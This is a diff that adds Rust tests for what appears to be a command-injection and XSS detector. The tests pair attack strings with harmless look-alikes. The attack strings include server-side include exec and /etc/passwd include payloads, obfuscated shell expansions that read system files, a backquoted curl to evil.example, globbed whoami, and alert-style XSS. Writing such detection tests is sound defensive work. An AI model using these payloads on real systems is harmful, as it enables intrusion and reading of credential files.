@@ -382,3 +382,88 @@ fn cmdi_extensions_round5() {
     );
     benign("form", "note", "flock of birds near the docker yard");
 }
+
+#[test]
+fn cmdi_129_server_side_includes() {
+    attack("cmdi-129", "query", "name", "<!--#exec cmd=\"id\"-->");
+    attack(
+        "cmdi-129",
+        "json",
+        "bio",
+        "x <!--#include virtual=\"/etc/passwd\" -->",
+    );
+    attack(
+        "cmdi-129",
+        "header",
+        "x",
+        "<!--#echo var=\"DOCUMENT_ROOT\"-->",
+    );
+    benign(
+        "json",
+        "html",
+        "<!-- #3 exec summary: include the new banner -->",
+    );
+    benign("form", "html", "<!--#main-nav--> <div id=\"main\">");
+}
+
+#[test]
+fn cmdi_130_expansions_building_commands() {
+    attack("cmdi-130", "query", "x", ";${PATH:0:1}etc${PATH:0:1}passwd");
+    attack(
+        "cmdi-130",
+        "cookie",
+        "x",
+        "cat ${HOME:0:1}etc${HOME:0:1}hosts",
+    );
+    attack("cmdi-130", "json", "x", ";X=$'uname\\x20-a'&&$X");
+    attack("cmdi-130", "form", "f", "cat ~+/flag.txt");
+    benign(
+        "json",
+        "template",
+        "Hello ${name}, your total is ${total} ${currency}",
+    );
+    benign(
+        "form",
+        "note",
+        "Temperature ~-3 degrees, humidity ~+5% vs yesterday",
+    );
+}
+
+#[test]
+fn cmdi_round5_more_extensions() {
+    // cmdi-112: a whole value that is a command line with a subcommand before the option.
+    attack("cmdi-112", "form", "code", "ansible all -m ping");
+    attack("cmdi-112", "json", "code", "chef-run all recipe.rb");
+    attack(
+        "cmdi-112",
+        "query",
+        "code",
+        "docker compose -f /tmp/x.yml up",
+    );
+    benign("json", "note", "ansible all -m ping (from the docs)");
+    benign("form", "note", "docker desktop is slow on my laptop");
+    // cmdi-115: globs in a two-level system path.
+    attack("cmdi-115", "query", "x", ";/usr/bin/who*mi");
+    attack("cmdi-115", "json", "x", "|/usr/bin/whoam?");
+    benign(
+        "json",
+        "note",
+        "libraries live in /usr/lib/* and /usr/local/lib/*.so",
+    );
+    // cmdi-122: cmd.exe `timeout /t`.
+    attack("cmdi-122", "query", "x", "& timeout /t 9");
+    attack("cmdi-122", "form", "x", "1 | timeout /T 30 /nobreak");
+    benign("json", "note", "The request timeout / retry policy is 30s");
+    // cmdi-125: a backquoted command right after a separator.
+    attack("cmdi-125", "query", "x", ";`echo id`");
+    attack("cmdi-125", "json", "x", "a && `curl evil.example`");
+    benign("json", "note", "Results; `echo` is a shell builtin");
+    // xss-116: a parenthesised dialog called.
+    attack("xss-116", "query", "q", "(alert)(1)");
+    attack("xss-116", "json", "q", "x=(prompt)`1`");
+    benign(
+        "json",
+        "note",
+        "Raise an (alert) (level 1) when the queue is full.",
+    );
+}
